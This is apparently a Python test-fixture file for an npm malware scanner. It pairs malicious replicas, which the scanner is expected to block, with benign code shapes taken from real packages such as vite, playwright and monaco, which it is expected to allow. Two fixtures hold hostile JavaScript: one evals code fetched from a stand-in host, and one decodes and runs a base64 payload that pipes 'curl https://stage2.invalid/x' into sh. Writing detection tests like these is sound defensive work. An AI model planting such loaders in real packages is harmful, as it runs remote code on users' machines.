# ruff: noqa: E501 — JavaScript fixtures read best one statement a line
"""Benign shapes that real, popular packages have and that earlier rules blocked (found by the real-tree and
top-1000 sweeps, issue 10). Each stays `allow`; each names the package whose code it abstracts."""

from __future__ import annotations

from tests.incidents.replica import Replica, b64

_FILLER = "".join(f"function helper{i}(x) {{ return x + {i}; }}\n" for i in range(120))

INCIDENTS: list[Replica] = [
    Replica(
        # A loader hidden among more network calls than the data-flow pass follows (its sink cap): the text
        # shows fetched data compiled, and that is what is left to judge it by.
        "fetch-eval-past-flow-cap",
        {
            "index.js": (
                "const https = require('https');\n"
                + "https.get('https://api.example.com/ping');\n" * 401
                + "https.get('https://stage.invalid/p', (r) => { let d = ''; r.on('data', (c) => (d += c)); "
                "r.on('end', () => eval(d)); });\n"
            )
        },
        "block",
        frozenset({"eval-remote-code"}),
    ),
    Replica(
        # The counterpart of the compilers below: the decoding helper takes a parameter, but the package
        # itself calls it with its embedded payload, so the decoded code is the package's, not a caller's.
        "decoder-helper-called-with-embedded-payload",
        {
            "index.js": (
                "function run(blob) { return eval(Buffer.from(blob, 'base64').toString()); }\n"
                f"run('{b64('require(`child_process`).exec(`curl -s https://stage2.invalid/x | sh`)')}');\n"
                "module.exports = {};\n"
            )
        },
        "block",
        frozenset({"eval-decoded-payload"}),
    ),
]

BENIGN: list[Replica] = [
    Replica(
        # vite 5–7 dist/node/chunks/dep-*.js: the `debug` library wraps a file descriptor in a net.Socket,
        # and launch-editor, bundled in the same chunk thousands of lines later, runs a constant PowerShell
        # query to find the running editor. No socket meets the shell.
        "bundle-socket-and-shell-far-apart",
        {
            "index.js": (
                "const net = require('net');\n"
                "const child_process = require('child_process');\n"
                "function createWritableStdioStream(fd) {\n"
                "  const stream = new net.Socket({ fd, readable: false, writable: true });\n"
                "  return stream;\n"
                "}\n" + _FILLER + "function guessEditor() {\n"
                "  const output = child_process.execSync('powershell -NoProfile -Command \"Get-CimInstance "
                '-Query \\\\"select executablepath from win32_process where executablepath is not null\\\\" '
                "| % { $_.ExecutablePath }\"').toString();\n"
                "  return output.split('\\r\\n');\n"
                "}\n"
                "module.exports = { createWritableStdioStream, guessEditor };\n"
            )
        },
        "allow",
        frozenset(),
    ),
    Replica(
        # playwright-core lib/coreBundle.js: a tool runs the script file the user names in a vm context, and
        # 48,000 lines away the same bundle's HTTP server checks requests for a favicon.
        "bundle-runs-user-script-and-checks-favicon",
        {
            "index.js": (
                "const fs = require('fs');\nconst vm = require('vm');\n"
                "function runUserScript(file, context) {\n"
                "  const code = fs.readFileSync(file, 'utf8');\n"
                "  return vm.runInContext(code, context);\n"
                "}\n"
                "function inferType(filename) { switch (filename.slice(-4)) { case '.png': return 'png'; } }\n"
                + _FILLER
                + "function isFavicon(url) { return url.pathname === '/favicon.ico'; }\n"
                "module.exports = { runUserScript, inferType, isFavicon };\n"
            )
        },
        "allow",
        frozenset(),
    ),
    Replica(
        # @nicolo-ribaudo/chokidar-2 dist/main.js: webpack's eval devtool wraps each bundled module in
        # eval("…") of a literal; the atob module's own text says base64.
        "webpack-eval-devtool-module",
        {
            "index.js": (
                "var __modules = {\n"
                "  './node_modules/atob/node-atob.js': ((module) => {\n"
                "    eval(\"\\n\\nfunction atob(str) {\\n  return Buffer.from(str, 'base64').toString('binary');\\n}\\n"
                'module.exports = atob.atob = atob;\\n//# sourceURL=webpack://pkg/./node_modules/atob/node-atob.js");\n'
                "  }),\n"
                "};\nmodule.exports = __modules;\n"
            )
        },
        "allow",
        frozenset(),
    ),
    Replica(
        # coffee-script 1.7.1 lib/coffee-script/browser.js: `CoffeeScript.eval` compiles the caller's source;
        # `compile` inlines a base64 source map, which is decoding near the eval but of nothing the package hides.
        "compiler-of-caller-source",
        {
            "index.js": (
                "function compile(code, options) {\n"
                "  const js = code.replace(/->/g, 'function');\n"
                "  const map = Buffer.from(JSON.stringify({ version: 3 })).toString('base64');\n"
                "  return js + '\\n//# sourceMappingURL=data:application/json;base64,' + map;\n"
                "}\n"
                "const CoffeeScript = {};\n"
                "CoffeeScript.eval = function (code, options) { return eval(compile(code, options)); };\n"
                "module.exports = CoffeeScript;\n"
            )
        },
        "allow",
        frozenset(),
    ),
    Replica(
        # web-worker 1.5.0 src/node/index.js: importScripts() runs the caller's URLs, decoding `data:` URLs.
        "worker-runs-caller-data-url",
        {
            "index.js": (
                "const VM = require('vm'); const fs = require('fs');\n"
                "function parseDataUrl(url) { const [, meta, data] = url.match(/^data:([^,]*),(.*)$/);\n"
                "  return { type: meta, data: meta.endsWith('base64') ? Buffer.from(data, 'base64').toString() : decodeURIComponent(data) }; }\n"
                "function importScripts() {\n"
                "  for (let i = 0; i < arguments.length; i++) {\n"
                "    const url = arguments[i];\n"
                "    let code;\n"
                "    if (/^data:/.test(url)) { code = parseDataUrl(url).data; } else { code = fs.readFileSync(url, 'utf-8'); }\n"
                "    VM.runInThisContext(code, { filename: url });\n"
                "  }\n"
                "}\n"
                "module.exports = { importScripts };\n"
            )
        },
        "allow",
        frozenset(),
    ),
    Replica(
        # @vue/compiler-sfc dist/compiler-sfc.cjs.js: a bundled require hook makes a `new module.constructor`
        # for a caller's file, and thousands of lines away the source-map code decodes base64.
        "compiler-bundle-module-and-sourcemaps-apart",
        {
            "index.js": (
                "function loadFromSource(source, filename) {\n"
                "  const m = new module.constructor();\n"
                "  m._compile(source, filename);\n"
                "  return m.exports;\n"
                "}\n"
                + _FILLER
                + "function decodeMappings(s) { return Buffer.from(s, 'base64').toString(); }\n"
                "function lookup(obj, key) { return obj[key](); }\n"
                "module.exports = { loadFromSource, decodeMappings, lookup };\n"
            )
        },
        "allow",
        frozenset(),
    ),
    Replica(
        # monaco-editor dev/vs/loader.js: the AMD loader fetches the module its caller names from the page's
        # own origin and evaluates it (the "monaco's same-origin loader" false block).
        "monaco-same-origin-loader",
        {
            "index.js": (
                "function load(url, callback, errorback) {\n"
                "  if (!(/^((http:)|(https:)|(file:))/.test(url) && url.substring(0, self.origin.length) !== self.origin)) {\n"
                "    fetch(url).then((o) => { if (o.status !== 200) throw new Error(o.statusText); return o.text(); })\n"
                "      .then((o) => { o = `${o}\\n//# sourceURL=${url}`; new Function(o).call(self); callback(); })\n"
                "      .then(void 0, errorback);\n"
                "  }\n"
                "}\n"
                "module.exports = { load };\n"
            )
        },
        "allow",
        frozenset(),
    ),
]

LOOKALIKES: dict[str, tuple[str, ...]] = {
    "js-reverse-shell": ("bundle-socket-and-shell-far-apart",),
    "steganography": ("bundle-runs-user-script-and-checks-favicon",),
    "eval-remote-code": ("monaco-same-origin-loader",),
    "eval-decoded-payload": (
        "webpack-eval-devtool-module",
        "compiler-of-caller-source",
        "worker-runs-caller-data-url",
        "compiler-bundle-module-and-sourcemaps-apart",
    ),
}
